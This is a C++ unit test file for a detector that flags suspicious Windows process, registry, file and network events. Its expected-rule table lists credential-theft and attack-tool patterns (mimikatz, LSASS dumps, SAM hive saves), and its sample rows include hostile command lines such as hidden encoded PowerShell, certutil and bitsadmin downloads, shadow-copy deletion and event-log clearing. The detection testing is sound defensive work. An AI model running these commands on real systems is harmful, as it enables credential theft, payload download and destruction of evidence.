// Threat rules: every rule fires on a row it describes and stays quiet on a near miss; the
// ranking of several matches, the result classes, the match modes and the bounded threat text.
#include <cstring>
#include <initializer_list>
#include <string>
#include <vector>

#include "base/text.h"
#include "doctest.h"
#include "rules/threat_rules.h"
#include "support/test_random.h"
#include "support/text_check.h"

using namespace olv;

namespace {

constexpr uint32_t kFile = kCategoryFile, kReg = kCategoryRegistry, kNet = kCategoryNetwork,
                   kProc = kCategoryProcess;

struct RowInput {
    uint32_t category;
    const char16_t* operation;
    const char16_t* path;
    const char16_t* detail;
    const char16_t* result;
};

// One row at a time, kept off the test's stack (3256 bytes).
EventRow& Row(const RowInput& input) {
    static EventRow row;
    std::memset(&row, 0, sizeof row);
    row.category = input.category;
    CopyBounded(row.operation, kOperationChars, input.operation);
    CopyBounded(row.path, kPathChars, input.path);
    CopyBounded(row.detail, kDetailChars, input.detail);
    CopyBounded(row.result, kResultChars, input.result);
    return row;
}

struct Scored {
    int32_t severity;
    std::string threat;
    bool operator==(const Scored&) const = default;
};

// The class of a row with this operation text in whichever category has a kind of that text.
uint32_t ClassOfText(const char16_t* operation) {
    uint32_t classes = 0;
    for (uint32_t category : {kFile, kReg, kNet, kProc})
        classes |= OperationClassOf(RowKindOf(category, operation, TextLength(operation)));
    return classes;
}

Scored Score(const RowInput& input) {
    EventRow& row = Row(input);
    const int32_t severity = ScoreRow(&row, row.threat, kThreatChars);
    return {severity, U8(row.threat)};
}

// The rule table as it is meant to be, written out independently of the code's own table:
// name, category, severity, operation classes, fields (1 path, 3 path or detail), match mode,
// needs success, list A, list B. "*" stands for a pattern of our own choosing.
struct ExpectedRule {
    const char16_t* name;
    uint32_t category;
    int32_t severity;
    uint32_t operationClasses, fields, matchMode;
    uint8_t needsSuccess;
    std::vector<const char16_t*> a, b;
};

// clang-format off
const std::vector<const char16_t*> kRunnable = {u".exe", u".dll", u".scr", u".ps1", u".bat",
    u".cmd", u".vbs", u".vbe", u".jse", u".hta", u".wsf", u".pif", u".cpl", u".jar"};
const ExpectedRule kExpectedRules[kThreatRuleCount] = {
    {u"Run key persistence", kReg, 3, 0x02, 1, MatchSubstring, 1,
     {u"\\currentversion\\run", u"\\currentversion\\runonce", u"\\currentversion\\runonceex",
      u"\\currentversion\\runservices", u"\\policies\\explorer\\run"}, {}},
    {u"Service created or altered", kReg, 3, 0x02, 3, MatchSubstring, 1,
     {u"\\services\\", u"\\controlset"}, {u"imagepath", u"servicedll"}},
    {u"Winlogon hijack", kReg, 3, 0x02, 3, MatchSubstring, 1,
     {u"\\winlogon"}, {u"userinit", u"shell", u"notify"}},
    {u"IFEO debugger set", kReg, 3, 0x02, 3, MatchSubstring, 1,
     {u"image file execution options", u"\\silentprocessexit"},
     {u"debugger", u"globalflag", u"verifierdlls", u"monitorprocess"}},
    {u"AppInit_DLLs injection key", kReg, 3, 0x02, 3, MatchSubstring, 1,
     {u"appinit_dlls", u"loadappinit_dlls", u"appcertdlls"}, {}},
    {u"COM hijack", kReg, 2, 0x02, 1, MatchSubstring, 1,
     {u"\\inprocserver32", u"\\localserver32", u"\\treatas"},
     {u"software\\classes\\clsid", u"\\clsid\\"}},
    {u"Defender disabled or altered", kReg, 3, 0x02, 3, MatchSubstring, 1,
     {u"\\windows defender\\", u"disableantispyware", u"disablerealtimemonitoring",
      u"\\real-time protection", u"\\exclusions\\path", u"\\exclusions\\extension",
      u"tamperprotection", u"disablebehaviormonitoring"}, {}},
    {u"Dropped into Startup folder", kFile, 3, 0x02, 1, MatchSubstring, 1,
     {u"\\start menu\\programs\\startup\\", u"\\startup\\"}, {}},
    {u"Scheduled task written", kFile, 3, 0x02, 1, MatchSubstring, 1,
     {u"\\system32\\tasks\\", u"\\windows\\tasks\\", u"\\schedule\\taskcache\\tree",
      u"\\schedule\\taskcache\\tasks"}, {}},
    {u"Executable dropped in Temp", kFile, 3, 0x02, 1, MatchSubstring, 1,
     {u"\\appdata\\local\\temp\\", u"\\windows\\temp\\", u"\\local\\temp\\", u"\\temp\\"},
     kRunnable},
    {u"Executable dropped in AppData", kFile, 3, 0x02, 1, MatchSubstring, 1,
     {u"\\appdata\\roaming\\", u"\\appdata\\local\\", u"\\appdata\\locallow\\"},
     kRunnable},
    {u"Dropped in Public or ProgramData", kFile, 3, 0x02, 1, MatchSubstring, 1,
     {u"\\programdata\\", u"\\users\\public\\", u"\\public\\downloads\\", u"c:\\perflogs\\"},
     kRunnable},
    {u"Double extension or RLO disguise", kFile, 3, 0, 1, MatchSubstring, 0,
     {u".pdf.exe", u".doc.exe", u".jpg.exe", u".txt.exe", u".pdf.scr", u".xls.exe", u".png.scr",
      u"\u202E"}, {}},
    {u"SAM or SYSTEM hive read", kFile, 3, 0, 1, MatchSubstring, 0,
     {u"\\system32\\config\\sam", u"\\system32\\config\\security", u"\\system32\\config\\system",
      u"\\config\\regback\\", u"ntds.dit", u"harddiskvolumeshadowcopy"}, {}},
    {u"DLL loaded from unusual directory", kProc, 3, 0x08, 1, MatchSubstring, 0,
     {u"\\appdata\\local\\temp\\", u"\\appdata\\roaming\\", u"\\downloads\\", u"\\windows\\temp\\",
      u"\\users\\public\\", u"\\$recycle.bin\\", u"\\desktop\\"}, {}},
    {u"DLL known for attack use loaded", kProc, 3, 0x0C, 1, MatchSubstring, 0,
     {u"comsvcs.dll", u"scrobj.dll", u"vbscript.dll", u"jscript.dll"}, {}},
    {u"Suspicious PowerShell arguments", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"powershell", u"pwsh.exe"},
     {u"-enc", u"-encodedcommand", u" jab", u"-w hidden", u"-windowstyle hidden",
      u"frombase64string", u"downloadstring", u"downloadfile", u"iex", u"invoke-expression",
      u"-ep bypass", u"-exec bypass", u"executionpolicy bypass"}},
    {u"Obfuscated or chained cmd", kProc, 2, 0x04, 3, MatchSubstring, 0,
     {u"cmd.exe", u"cmd /c"},
     {u"&&", u"| powershell", u"for /f", u"%comspec%", u"/v:on", u"set /a"}},
    {u"rundll32 abuse", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"rundll32"}, {u"javascript:", u",dllregisterserver", u"\\appdata\\", u"\\temp\\", u"http"}},
    {u"regsvr32 running a script", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"regsvr32"}, {u"/i:http", u"scrobj.dll", u".sct", u"\\temp\\", u"\\appdata\\"}},
    {u"mshta running a script", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"mshta"}, {u"vbscript:", u"javascript:", u"http", u".hta", u"createobject"}},
    {u"certutil download or decode", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"certutil"},
     {u"-urlcache", u"-verifyctl", u"-split", u"-decode", u"-decodehex", u"-encode", u"http"}},
    {u"bitsadmin transfer", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"bitsadmin", u"start-bitstransfer"},
     {u"/transfer", u"/addfile", u"/setnotifycmdline", u"/download"}},
    {u"Script host execution", kProc, 2, 0x04, 3, MatchSubstring, 0,
     {u"wscript.exe", u"cscript.exe"},
     {u".vbs", u".vbe", u".wsf", u"//e:jscript", u"\\appdata\\", u"\\temp\\", u"\\downloads\\"}},
    {u"Run through a developer tool", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"msbuild.exe", u"installutil.exe", u"regasm.exe", u"regsvcs.exe", u"jsc.exe"},
     {u"\\temp\\", u".csproj", u"/logfile=", u"/u ", u"\\appdata\\"}},
    {u"Other living-off-the-land binary", kProc, 2, 0x04, 3, MatchSubstring, 0,
     {u"mavinject.exe", u"msdt.exe", u"wmic.exe", u"pcalua.exe", u"forfiles.exe"},
     {u"process call create", u"/processid", u"ms-msdt", u"-injectrunning"}},
    {u"Shadow copies deleted", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"vssadmin", u"delete shadows", u"resize shadowstorage", u"delete catalog",
      u"shadowcopy delete", u"win32_shadowcopy", u"recoveryenabled no"}, {}},
    {u"Firewall turned off", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"advfirewall set", u"set-netfirewallprofile", u"\\firewallpolicy\\",
      u"firewall set opmode disable", u"advfirewall firewall add rule"}, {}},
    {u"Event log cleared", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"wevtutil cl", u"wevtutil.exe cl", u"clear-log", u"clear-eventlog", u"auditpol /clear",
      u"auditpol /set", u"limit-eventlog"}, {}},
    {u"Self-deletion", kProc, 2, 0x04, 3, MatchSubstring, 0,
     {u"127.0.0.1 -n", u"del \"%~f0\"", u"goto :delete", u"del %0"}, {}},
    {u"reg save hive extraction", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"reg save", u"reg.exe save", u"reg export", u"reg.exe export"},
     {u"hklm\\sam", u"hklm\\security", u"hklm\\system", u"\\sam"}},
    {u"LSASS dump", kProc, 3, 0x04, 3, MatchSubstring, 0,
     {u"lsass.dmp", u"comsvcs.dll, minidump", u"comsvcs.dll minidump", u"-ma lsass", u"sekurlsa",
      u"mimikatz", u"nanodump"}, {}},
    {u"Reconnaissance command", kProc, 1, 0x04, 3, MatchSubstring, 0,
     {u"whoami.exe", u"nltest", u"systeminfo.exe", u"group \"domain admins\"",
      u"localgroup administrators", u"query user"}, {}},
    {u"Connection to a common C2 port", kNet, 3, 0x10, 1, MatchPathToken, 0,
     {u":4444", u":1337", u":31337", u":5555", u":6666", u":6667", u":9001", u":50050"}, {}},
    {u"Low-reputation TLD", kNet, 2, 0x10, 1, MatchPathSuffix, 0,
     {u".tk", u".top", u".xyz", u".gq", u".ml", u".cf", u".ga", u".su", u".click"}, {}},
    // The nine host-name fragments between "teamviewer" and "anonfiles" are ours to choose.
    {u"Remote management or tunnel service", kNet, 2, 0x10, 3, MatchSubstring, 0,
     {u"anydesk", u"teamviewer", u"*", u"*", u"*", u"*", u"*", u"*", u"*", u"*", u"*",
      u"anonfiles"}, {}},
    {u"Disk opened for raw access", kFile, 2, 0x01, 4, MatchSubstring, 0,
     {u"opened disk for raw access"}, {}},
    {u"Executable hidden in a stream", kFile, 3, 0x02, 2, MatchSubstring, 0,
     {u"stream: "}, kRunnable},
    {u"Process memory opened for writing", kProc, 3, 0x100, 2, MatchSubstring, 0,
     {u"write memory", u"(all access)"}, {}},
    {u"LSASS opened", kProc, 3, 0x100, 1, MatchSubstring, 0, {u"lsass.exe"}, {}},
    {u"Process memory opened for reading", kProc, 2, 0x100, 2, MatchSubstring, 0,
     {u"read memory", u"(all access)"}, {}},
    {u"Driver loaded during the recording", kProc, 2, 0x200, 4, MatchSubstring, 0,
     {u"loaded driver"}, {}},
    {u"Thread created in another process", kProc, 2, 0x400, 4, MatchSubstring, 0,
     {u"created thread in another process"}, {}},
    {u"Remote thread outside any module", kProc, 3, 0x400, 2, MatchSubstring, 0,
     {u"(no known module)"}, {}},
};
// clang-format on

// A near miss changes one text of a row that fires its rule, or its category.
using Field = const char16_t* RowInput::*;
constexpr Field Operation = &RowInput::operation, Path = &RowInput::path,
                Detail = &RowInput::detail, Result = &RowInput::result, OtherCategory = nullptr;

struct RuleCase {
    int rule; // 1-based table position
    uint32_t category;
    const char16_t *operation, *path, *detail, *result;
    Field change;
    const char16_t* changed = nullptr;
    RowInput Hit() const { return {category, operation, path, detail, result}; }
};

const char16_t* const kRunKey = u"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
const char16_t* const kStart = u"Started child process";

const RuleCase kRuleCases[] = {
    {1, kReg, u"Wrote registry value", kRunKey, u"Updater", u"OK", Operation,
     u"Read registry value"},
    {2, kReg, u"Wrote registry value", u"HKLM\\SYSTEM\\ControlSet001\\Services\\x", u"ImagePath",
     u"OK", Detail, u"Description"},
    {3, kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Winlogon",
     u"Userinit", u"OK", Detail, u"LegalNoticeText"},
    {4, kReg, u"Created registry key", u"HKLM\\...\\Image File Execution Options\\sethc.exe",
     u"Debugger", u"OK", Result, u"DENIED"},
    {5, kReg, u"Wrote registry value", u"HKLM\\SOFTWARE", u"AppInit_DLLs", u"OK", OtherCategory},
    {6, kReg, u"Wrote registry value", u"HKCU\\Software\\Classes\\CLSID\\{b5f8}\\InprocServer32",
     u"\\InprocServer32", u"OK", Path, u"HKCU\\Software\\Classes\\CLSID"}, // detail not searched
    {7, kReg, u"Wrote registry value", u"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
     u"DisableAntiSpyware", u"OK", Result, u"FAIL 0xC0000022"},
    {8, kFile, u"Created new file", u"C:\\Users\\a\\Start Menu\\Programs\\Startup\\r.lnk", u"",
     u"OK", Operation, u"Opened file"},
    {9, kFile, u"Wrote to file", u"C:\\Windows\\System32\\Tasks\\Updater", u"", u"OK", Operation,
     u"Deleted file"},
    {10, kFile, u"Created new file", u"C:\\Windows\\Temp\\x.exe", u"", u"OK", Path,
     u"C:\\Windows\\Temp\\notes.txt"},
    {11, kFile, u"Created new file", u"C:\\Users\\a\\AppData\\Roaming\\x.dll", u"", u"OK", Result,
     u"FAIL 0xC0000022"},
    {12, kFile, u"Renamed file", u"C:\\ProgramData\\svc.ps1", u"", u"OK", Path,
     u"C:\\ProgramData\\svc.log"},
    {13, kFile, u"Opened file", u"C:\\Downloads\\invoice.PDF.exe", u"", u"DENIED", OtherCategory},
    {14, kFile, u"Read file", u"C:\\Windows\\System32\\config\\SAM", u"", u"OK", OtherCategory},
    {15, kProc, u"Loaded DLL", u"C:\\Users\\a\\AppData\\Local\\Temp\\e.dll", u"", u"", Operation,
     kStart},
    {16, kProc, u"Loaded DLL", u"C:\\Windows\\System32\\comsvcs.dll", u"", u"", Operation,
     u"Process exited"},
    {17, kProc, kStart, u"powershell.exe -nop -w hidden -enc SQBFAFgA", u"", u"OK", Path,
     u"powershell.exe -File C:\\scripts\\backup.ps1"},
    {18, kProc, kStart, u"cmd.exe /c echo a && echo b", u"", u"OK", Path, u"cmd.exe /c dir"},
    {19, kProc, kStart, u"rundll32.exe C:\\Users\\a\\AppData\\Local\\x.dll,Start", u"", u"OK", Path,
     u"rundll32.exe shell32.dll,Control_RunDLL"},
    {20, kProc, kStart, u"regsvr32.exe /s C:\\Users\\Public\\x.sct", u"", u"OK", Path,
     u"regsvr32.exe /s C:\\Windows\\System32\\msxml3.dll"},
    {21, kProc, kStart, u"mshta.exe http://example.test/a.hta", u"", u"OK", Path, u"mshta.exe"},
    {22, kProc, kStart, u"certutil.exe -urlcache -f http://x.test/a a.exe", u"", u"OK", Path,
     u"certutil.exe -store my"},
    {23, kProc, kStart, u"bitsadmin /transfer job http://x.test/a C:\\a.exe", u"", u"OK", Path,
     u"bitsadmin /list"},
    {24, kProc, kStart, u"wscript.exe C:\\Users\\a\\Downloads\\invoice.vbs", u"", u"OK", Path,
     u"cscript.exe //nologo C:\\Windows\\System32\\prnmngr.js"},
    {25, kProc, kStart, u"MSBuild.exe C:\\Users\\a\\AppData\\Local\\Temp\\p.csproj", u"", u"OK",
     Path, u"MSBuild.exe build.proj"},
    {26, kProc, kStart, u"wmic.exe process call create calc.exe", u"", u"OK", Path,
     u"wmic.exe os get caption"},
    {27, kProc, kStart, u"vssadmin.exe delete shadows /all /quiet", u"", u"OK", OtherCategory},
    {28, kProc, kStart, u"netsh advfirewall set allprofiles state off", u"", u"OK", Operation,
     u"Loaded DLL"},
    {29, kProc, kStart, u"wevtutil.exe cl Security", u"", u"OK", Path, u"wevtutil.exe qe x"},
    {30, kProc, kStart, u"ping 127.0.0.1 -n 3 > nul & del \"%~f0\"", u"", u"OK", Path,
     u"ping 127.0.0.1"},
    {31, kProc, kStart, u"reg.exe save HKLM\\SAM C:\\x\\sam.save", u"", u"OK", Path,
     u"reg.exe save HKCU\\Software\\App app.hiv"},
    {32, kProc, kStart, u"procdump.exe -accepteula -ma lsass.exe out.dmp", u"", u"OK", Path,
     u"procdump.exe -ma notepad.exe"},
    {33, kProc, kStart, u"C:\\Windows\\System32\\whoami.exe /all", u"", u"OK", OtherCategory},
    {34, kNet, u"Connected (TCP)", u"10.0.0.5:49712 -> 203.0.113.9:4444", u"", u"", Path,
     u"10.0.0.5:49712 -> 203.0.113.9:44445"},
    {35, kNet, u"DNS query", u"evil.TK", u"", u"", Path, u"evil.tk.example.com"},
    {36, kNet, u"DNS query", u"abc123.ngrok.io", u"", u"", Path, u"abc123.ngrokio.example"},
    // A refused open tried all the same; an ordinary open of the volume's root is no raw open.
    {37, kFile, u"Opened disk for raw access", u"\\Device\\HarddiskVolume3", u"", u"DENIED",
     Operation, u"Opened file"},
    // The stream's name decides, not the file's: a zone mark on a program is common.
    {38, kFile, u"Wrote alternate data stream", u"C:\\x\\notes.txt:run.exe",
     u"Stream: run.exe, 26 bytes", u"FAIL 0xC0000022", Detail, u"Stream: Zone.Identifier"},
    // Opens of another process: the rights the detail names decide, a refusal does not; a thread
    // open names a thread's rights, whose bits are not memory rights.
    {39, kProc, u"Opened process", u"explorer.exe",
     u"Target PID: 5 / Access: 0x28 (memory operation, write memory)", u"DENIED", Detail,
     u"Target PID: 5 / Access: 0x8 (memory operation)"},
    {40, kProc, u"Opened process", u"lsass.exe",
     u"Target PID: 712 / Access: 0x1000 (query limited information)", u"OK", Path, u"lsaiso.exe"},
    {41, kProc, u"Opened process", u"notepad.exe", u"Target PID: 9 / Access: 0x10 (read memory)",
     u"OK", Detail, u"Target PID: 9 / TID: 10 / Access: 0x10 (set context)"},
    // Any driver; a DLL of the same file is no driver.
    {42, kProc, u"Loaded driver", u"C:\\Windows\\System32\\drivers\\x.sys", u"", u"OK",
     Operation, u"Loaded DLL"},
    // Any thread started in another process; the near miss is a thread of the process's own
    // making, which gives no row at all, so another Process row stands for it.
    {43, kProc, u"Created thread in another process", u"C:\\Windows\\explorer.exe",
     u"Target PID: 880 / Thread ID: 9 / Start address: 0x7ffb1001f2a0 in C:\\k.dll", u"OK",
     Operation, u"Loaded DLL"},
    // Memory no image maps; an operation of no kind (an older file's row) is tested by every
    // rule, so this one fires alone there.
    {44, kProc, u"Thread operation (1)", u"C:\\Windows\\explorer.exe",
     u"Target PID: 880 / Thread ID: 9 / Start address: 0x1d0000 (no known module)", u"OK",
     Detail, u"Target PID: 880 / Thread ID: 9 / Start address: 0x1d0000 in C:\\k.dll"}};

RowInput NearMiss(const RuleCase& c) {
    RowInput miss = c.Hit();
    if (c.change == nullptr) miss.category = (miss.category + 1) % 4;
    if (c.change != nullptr) miss.*c.change = c.changed;
    return miss;
}

} // namespace

TEST_CASE("every rule fires alone on its own row and not on a near miss") {
    bool covered[kThreatRuleCount] = {};
    for (const RuleCase& c : kRuleCases) {
        CAPTURE(c.rule);
        const ExpectedRule& rule = kExpectedRules[c.rule - 1];
        covered[c.rule - 1] = true;
        CHECK(Score(c.Hit()) == Scored{rule.severity, U8(rule.name)});
        CHECK(Score(NearMiss(c)) == Scored{0, ""});
    }
    for (size_t i = 0; i < kThreatRuleCount; ++i) {
        CAPTURE(i + 1);
        CHECK(covered[i]);
    }
}

TEST_CASE("the rule table holds each rule's settings and patterns, in order") {
    const auto samePatterns = [](const char16_t* const* actual,
                                 const std::vector<const char16_t*>& expected) {
        size_t n = 0;
        for (; actual != nullptr && actual[n] != nullptr; ++n) {
            if (n >= expected.size()) return false;
            const std::string text = U8(actual[n]);
            if (TextEquals(expected[n], u"*")) {
                if (text.empty() ||
                    text.find_first_of("ABCDEFGHIJKLMNOPQRSTUVWXYZ") != std::string::npos)
                    return false;
            } else if (text != U8(expected[n])) {
                return false;
            }
        }
        return n == expected.size();
    };
    for (size_t i = 0; i < kThreatRuleCount; ++i) {
        const ExpectedRule& e = kExpectedRules[i];
        const ThreatRule& rule = kThreatRules[i];
        CAPTURE(i + 1);
        CHECK(U8(rule.name) == U8(e.name));
        CHECK(rule.category == e.category);
        CHECK(rule.severity == e.severity);
        CHECK(rule.operationClasses == e.operationClasses);
        CHECK(rule.fields == e.fields);
        CHECK(rule.matchMode == e.matchMode);
        CHECK(rule.needsSuccess == e.needsSuccess);
        CHECK(samePatterns(rule.patternsA, e.a));
        CHECK(samePatterns(rule.patternsB, e.b));
    }
}

TEST_CASE("every pattern makes its rule fire, in upper case where case folds") {
    for (size_t i = 0; i < kThreatRuleCount; ++i) {
        const ExpectedRule& e = kExpectedRules[i];
        for (size_t k = 0; k < e.a.size(); ++k) {
            // The A pattern, then the first B pattern (if any).
            std::u16string text = u"x";
            text += TextEquals(e.a[k], u"*") ? kThreatRules[i].patternsA[k] : e.a[k];
            if (!e.b.empty()) text += std::u16string(u" ") + e.b[0];
            for (char16_t& ch : text) {
                if (e.matchMode != MatchPathToken && ch >= u'a' && ch <= u'z') ch -= 32;
            }
            CAPTURE(i + 1);
            CAPTURE(U8(text.c_str()));
            // Each rule reads its own fields: the operation, the detail, or the path first.
            if ((e.fields & FieldOperation) != 0) {
                CHECK(Score({e.category, text.c_str(), u"x", u"", u"OK"}).severity >= e.severity);
                continue;
            }
            if (e.fields == FieldDetail) {
                CHECK(Score({e.category, u"", u"x", text.c_str(), u"OK"}).severity >= e.severity);
                continue;
            }
            CHECK(Score({e.category, u"", text.c_str(), u"", u"OK"}).severity >= e.severity);
            if (e.fields == 3)
                CHECK(Score({e.category, u"", u"x", text.c_str(), u"OK"}).severity >= e.severity);
        }
    }
}

TEST_CASE("severity is the highest match, the name the first with it, the suffix counts rules") {
    struct Case {
        RowInput row;
        Scored expected;
    } cases[] = {
        // Rules 18 (2) and 33 (1).
        {{kProc, kStart, u"cmd.exe /c whoami.exe && exit", u"", u"OK"},
         {2, "Obfuscated or chained cmd (+1)"}},
        // Rules 17 and 19, both 3: the earlier one names the row.
        {{kProc, kStart, u"rundll32.exe javascript: powershell -enc abc", u"", u"OK"},
         {3, "Suspicious PowerShell arguments (+1)"}},
        // Rules 18 (2), 27 (3) and 33 (1): a later, higher rule takes the name.
        {{kProc, kStart, u"cmd.exe /c whoami.exe && vssadmin delete shadows", u"", u"OK"},
         {3, "Shadow copies deleted (+2)"}},
        // Two patterns of rule 1 are one matching rule.
        {{kReg, u"Wrote registry value", u"HKCU\\...\\CurrentVersion\\RunOnce", u"", u"OK"},
         {3, "Run key persistence"}},
        // A folder named like an executable counts, in either order.
        {{kFile, u"Wrote to file", u"C:\\Windows\\Temp\\setup.exe\\readme.txt", u"", u"OK"},
         {3, "Executable dropped in Temp"}}};
    for (const Case& c : cases) {
        CAPTURE(U8(c.row.path));
        CHECK(Score(c.row) == c.expected);
    }
}

TEST_CASE("result classes: failed results stop the write rules, unknown and warnings do not") {
    const std::initializer_list<const char16_t*> byClass[3] = {
        {nullptr, u"", u"-", u"..."},
        {u"OK", u"PENDING", u"MORE DATA", u"NO MORE", u"WARN 0x80000005", u"WARNING"},
        {u"DENIED", u"FAIL 0xC0000022", u"ok", u"Warn 0x80000005", u"--", u"..", u"OKAY",
         u"PENDING.", u"MORE", u"NO MORE DATA", u"WAR", u"NOT FOUND"}};
    for (int cls = ResultUnknown; cls <= ResultFailed; ++cls) {
        for (const char16_t* result : byClass[cls]) {
            CAPTURE(U8(result));
            CHECK(ClassifyResult(result) == cls);
            const Scored s = Score(
                {kReg, u"Wrote registry value", u"HKLM\\...\\CurrentVERSION\\RUN\\x", u"", result});
            CHECK(s == (cls == ResultFailed ? Scored{0, ""} : Scored{3, "Run key persistence"}));
        }
    }
}

TEST_CASE("match modes: a name suffix with one final dot, a port token ending the text") {
    struct Suffix {
        const char16_t* path;
        const char16_t* pattern;
        bool expected;
    } suffixes[] = {
        {u"evil.tk", u".tk", true}, {u"evil.tk.", u".tk", true},  {u"evil.tk..", u".tk", false},
        {u"EVIL.TK", u".tk", true}, {u"evil.tka", u".tk", false}, {u"tk.", u".tk", false},
        {u"x.", u"", true},         {u"x", u"", false},           {nullptr, u".tk", false}};
    for (const Suffix& c : suffixes) {
        CAPTURE(U8(c.path));
        CHECK(PathEndsWith(c.path, c.pattern) == c.expected);
    }
    CHECK(Score({kNet, u"DNS answer", u"evil.tk.", u"", u""}).severity == 2);
    CHECK(Score({kNet, u"DNS answer", u"evil.tk..", u"", u""}).severity == 0);

    struct Token {
        const char16_t* path;
        int32_t severity;
    } tokens[] = {{u"198.51.100.7:4444 -> 10.0.0.5:50001", 3},
                  {u"10.0.0.5:50001 -> 198.51.100.7:44444", 0},
                  {u"10.0.0.5:4444-x", 0},
                  {u"10.0.0.5:44441 -> 198.51.100.7:4444", 3}, // the second occurrence counts
                  {u"", 0}};
    for (const Token& c : tokens) {
        CAPTURE(U8(c.path));
        CHECK(Score({kNet, u"Sent data (TCP)", c.path, u"", u""}).severity == c.severity);
    }
}

TEST_CASE("a port token is found exactly where a search at every place finds it") {
    // The plain definition: the pattern at some place, followed by the end or a space.
    auto reference = [](const char16_t* path, size_t n, const char16_t* pattern) {
        const size_t m = TextLength(pattern);
        if (n == 0 || m > n) return false;
        for (size_t i = 0; i + m <= n; ++i) {
            if (std::memcmp(path + i, pattern, m * sizeof(char16_t)) == 0 &&
                (i + m == n || path[i + m] == u' ')) {
                return true;
            }
        }
        return false;
    };
    const char16_t pieces[] = u"14:5 ->.";
    TestRandom random{77};
    auto next = [&](uint32_t n) { return random.Below(n); };
    for (int round = 0; round < 20000; ++round) {
        EventRow row{};
        row.category = kCategoryNetwork;
        const size_t n =
            next(4) == 0 ? kPathChars : next(24); // sometimes a full, unterminated path
        for (size_t i = 0; i < n; ++i)
            row.path[i] = pieces[next(8)];
        char16_t pattern[8] = {};
        const size_t m = next(7);
        for (size_t i = 0; i < m; ++i)
            pattern[i] = pieces[next(8)];
        const char16_t* const list[] = {pattern, nullptr};
        CAPTURE(U8(pattern));
        REQUIRE(MatchPatternList(list, &row, FieldPath, MatchPathToken) ==
                reference(row.path, n, pattern));
    }
}

TEST_CASE("scoring and the list of matching rules agree with a rule-by-rule reading of the table") {
    // The reference: every rule of the table in order, its plain pattern search (no pair sets, no
    // field skipped), the ranking by severity with the first name kept.
    auto reference = [](const EventRow& row, std::string* threat, std::vector<int32_t>* listed) {
        int32_t best = 0, matches = 0;
        const char16_t* chosen = nullptr;
        const uint32_t operationClass = OperationClassOf(RowKindOfRow(row));
        listed->clear();
        for (const ThreatRule& rule : kThreatRules) {
            if (rule.category != row.category) continue;
            if (rule.operationClasses != 0 && operationClass != 0 &&
                (rule.operationClasses & operationClass) == 0) {
                continue;
            }
            if (rule.needsSuccess != 0 && ClassifyResult(row.result) == ResultFailed) continue;
            if (!MatchPatternList(rule.patternsA, &row, rule.fields, rule.matchMode) ||
                !MatchPatternList(rule.patternsB, &row, rule.fields, rule.matchMode)) {
                continue;
            }
            ++matches;
            listed->push_back(static_cast<int32_t>(&rule - kThreatRules));
            if (rule.severity > best) {
                best = rule.severity;
                chosen = rule.name;
            }
        }
        *threat = best == 0 ? std::string() : U8(chosen);
        if (best != 0 && matches >= 2) *threat += " (+" + std::to_string(matches - 1) + ")";
        return best;
    };
    // Texts made of the table's own patterns, in either case, between random fillers, so that
    // rules fire alone, together and nearly.
    std::vector<const char16_t*> patterns;
    for (const ThreatRule& rule : kThreatRules) {
        for (const char16_t* const* list : {rule.patternsA, rule.patternsB}) {
            for (size_t i = 0; list != nullptr && list[i] != nullptr; ++i)
                patterns.push_back(list[i]);
        }
    }
    const char16_t* const fillers[] = {u"", u"\\", u" ", u".", u"x", u":443", u"C:\\Users\\a\\",
                                       u"-enc ", u"198.51.100.7",
                                       u" -> ", u"1 2 3 4 5 6 7 8 9 "};
    const char16_t* const operations[] = {u"WriteFile", u"ReadFile", u"CreateFile", u"SetValue",
                                          u"Process Start", u"Load Image", u"Sent data (TCP)",
                                          u"DNS query", u"Delete", u"Something else", u""};
    const char16_t* const results[] = {u"OK", u"ACCESS DENIED", u"", u"-", u"NAME NOT FOUND"};
    TestRandom random{0x5c0de};
    auto next = [&](uint32_t n) { return random.Below(n); };
    auto fill = [&](char16_t* field, size_t capacity) {
        std::u16string text;
        for (uint32_t k = next(4); k > 0; --k) {
            text += fillers[next(sizeof fillers / sizeof fillers[0])];
            std::u16string piece = patterns[next(static_cast<uint32_t>(patterns.size()))];
            if (next(3) == 0) {
                for (char16_t& c : piece)
                    if (c >= u'a' && c <= u'z') c = static_cast<char16_t>(c - 32);
            }
            if (next(4) == 0 && piece.size() > 1) piece.pop_back(); // a near miss
            text += piece;
        }
        if (next(8) == 0) {
            // A long text that ends near the field's end, or fills it without a terminator.
            const size_t length = capacity - next(12);
            std::u16string padded(length > text.size() ? length - text.size() : 0, u'q');
            padded += text;
            padded.resize(length, u'z');
            for (size_t i = 0; i < capacity; ++i)
                field[i] = i < length ? padded[i] : 0;
            return;
        }
        CopyBounded(field, capacity, text.c_str());
    };
    static EventRow row;
    int fired = 0;
    for (int round = 0; round < 20000; ++round) {
        std::memset(&row, 0, sizeof row);
        row.category = next(5);
        CopyBounded(row.operation, kOperationChars,
                    operations[next(sizeof operations / sizeof operations[0])]);
        CopyBounded(row.result, kResultChars, results[next(sizeof results / sizeof results[0])]);
        fill(row.path, kPathChars);
        fill(row.detail, kDetailChars);
        std::string expected;
        std::vector<int32_t> expectedRules;
        const int32_t severity = reference(row, &expected, &expectedRules);
        const int32_t got = ScoreRow(&row, row.threat, kThreatChars);
        CAPTURE(U8(row.path));
        CAPTURE(U8(row.detail));
        REQUIRE(got == severity);
        REQUIRE(U8(row.threat) == expected);
        int32_t listed[kThreatRuleCount];
        const int32_t count = MatchingThreatRules(&row, listed, kThreatRuleCount);
        REQUIRE(std::vector<int32_t>(listed, listed + count) == expectedRules);
        // A short list keeps the first rules and still counts them all.
        int32_t one[1] = {-1};
        REQUIRE(MatchingThreatRules(&row, one, 1) == count);
        if (count > 0) REQUIRE(one[0] == expectedRules[0]);
        if (severity != 0) ++fired;
    }
    CHECK(fired > 2000);
}

